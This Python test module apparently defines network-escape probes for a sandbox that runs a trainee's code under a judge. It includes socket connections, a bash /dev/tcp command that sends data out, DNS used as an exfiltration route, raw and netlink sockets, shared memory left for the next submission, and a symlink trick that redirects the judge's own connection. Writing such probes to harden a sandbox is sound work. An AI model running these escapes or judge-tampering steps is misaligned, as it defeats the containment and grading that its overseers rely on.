"""Talking to anybody but the judge."""

from adversarial_attack import Attack, table
from adversarial_runner import claimed, reached

CLOSED = (
    "no network: bubblewrap: own network namespace; Landlock: sockets of other kinds and connect refused by seccomp"
)
OPEN = {"category": "network", "won": reached, "defence": CLOSED, "safe": "no server hears of it"}


def _connect(ident: str, does: str, family: str, address: str, **more: str) -> Attack:
    code = f"""
import socket

def attack():
    line = socket.socket(socket.{family}, socket.SOCK_STREAM)
    line.settimeout(2)
    line.connect({address})
    line.sendall((LAB["name"] + "\\n").encode())
    line.close()
    return "sent"
"""
    return Attack(ident, does=does, code=code.strip(), **OPEN, **more)


def _send(ident: str, does: str, family: str, address: str, make: str = "socket.socket") -> Attack:
    code = f"""
import socket

def attack():
    line = {make}(socket.{family}, socket.SOCK_DGRAM)
    line = line[0] if isinstance(line, tuple) else line
    line.sendto((LAB["name"] + "\\n").encode(), {address})
    return "sent"
"""
    return Attack(ident, does=does, code=code.strip(), **OPEN)


ATTACKS = [
    _connect("net-tcp", "opens a TCP connection", "AF_INET", '("127.0.0.1", LAB["tcp"])', row="read"),
    _send("net-udp", "sends a UDP packet", "AF_INET", '("127.0.0.1", LAB["udp"])'),
    _connect("net-unix", "connects to a local service by its path", "AF_UNIX", 'LAB["stream"]'),
    _send("net-unix-datagram", "sends to a local service by its path without connecting", "AF_UNIX", 'LAB["datagram"]'),
    _send(
        "net-unix-pair",
        "makes a pair of datagram sockets, which is no network, and sends from it to a local service",
        "AF_UNIX",
        'LAB["datagram"]',
        "socket.socketpair",
    ),
    _connect("net-abstract", "connects to a local service without a path", "AF_UNIX", 'chr(0) + LAB["abstract"]'),
    Attack(
        "net-ipv6-mapped",
        does="opens a TCP connection through an IPv6 socket",
        code=table("""
            import socket

            def attack():
                line = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                line.settimeout(2)
                line.connect(("::ffff:127.0.0.1", LAB["tcp"]))
                line.sendall((LAB["name"] + "\\n").encode())
                return "sent"
            """),
        **OPEN,
    ),
    Attack(
        "net-child",
        does="lets another program connect (bash's /dev/tcp)",
        code=table("""
            import subprocess

            def attack():
                words = f"echo {LAB['name']} > /dev/tcp/127.0.0.1/{LAB['tcp']}"
                return subprocess.run(["/bin/bash", "-c", words], capture_output=True, text=True, timeout=5)
            """),
        **OPEN,
    ),
    Attack(
        "net-dns",
        category="network",
        does="asks the machine's list of names for an address, the way data leave by DNS",
        defence=CLOSED + "; no /etc/hosts or resolver inside",
        safe="no name is resolved",
        won=claimed,
        code='import socket\n\ndef attack():\n    return "WON " + socket.gethostbyname("localhost")',
    ),
    Attack(
        "net-netlink",
        category="network",
        does="asks the kernel of the system for network cards by netlink",
        defence=CLOSED,
        safe="refused, or only an empty loopback is to be seen",
        won=claimed,
        control=lambda trial: True,
        without="(no control: a machine may have no card)",
        code=table("""
            import socket

            def attack():
                names = [name for _, name in socket.if_nameindex() if name != "lo"]
                return f"WON {names}" if names else "nothing"
            """),
    ),
    Attack(
        "net-raw",
        category="network",
        does="opens raw and packet sockets",
        defence=CLOSED + "; no capability",
        safe="refused",
        won=claimed,
        rest="root",
        code="import socket\n\ndef attack():\n    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
        '    return "WON"',
    ),
    Attack(
        "net-redirected-judge",
        does="puts a link to a local service where its own socket was, so that the judge connects there",
        category="network",
        defence="the judge's connection is made before any of the trainee's code runs",
        safe="the service hears nothing",
        won=lambda trial: any(word.startswith("\ufffd") for word in trial.lab.ears.heard),
        control=lambda trial: True,
        without="(no control: the judge is the same)",
        code=table("""
            import os, glob
            from IPython import get_ipython
            from ipykernel.connect import get_connection_file

            for path in glob.glob(os.path.dirname(get_connection_file()) + "/s-*"):
                os.remove(path)
                os.symlink(LAB["stream"], path)

            def attack():
                get_ipython().kernel.iopub_thread.close()
                import time
                time.sleep(1)
                return "tried"
            """),
    ),
    Attack(
        "net-between-submissions",
        category="network",
        does="leaves words in System V memory for the next submission to print",
        defence="bubblewrap: own IPC namespace; Landlock: System V calls refused by seccomp",
        safe="no such memory is there afterwards",
        won=lambda trial: trial.lab.left_memory(trial.attack.id),
        code=table("""
            import ctypes, zlib

            def attack():
                libc = ctypes.CDLL(None, use_errno=True)
                segment = libc.shmget(zlib.crc32(LAB["marker"].encode()) >> 1, ctypes.c_size_t(4096), 0o1666)
                return segment if segment >= 0 else f"stopped: {ctypes.get_errno()}"
            """),
    ),
    Attack(
        "net-inside-proc",
        category="network",
        does="lists the open sockets of the machine from /proc/self/net",
        defence="bubblewrap: own network namespace; Landlock: /proc/self/net is not among the paths",
        safe="no socket of anybody else is listed",
        won=lambda trial: trial.lab.ears.places["stream"] in trial.said,
        code='def attack():\n    return [line for line in open("/proc/self/net/unix") if LAB["stream"] in line]',
    ),
]
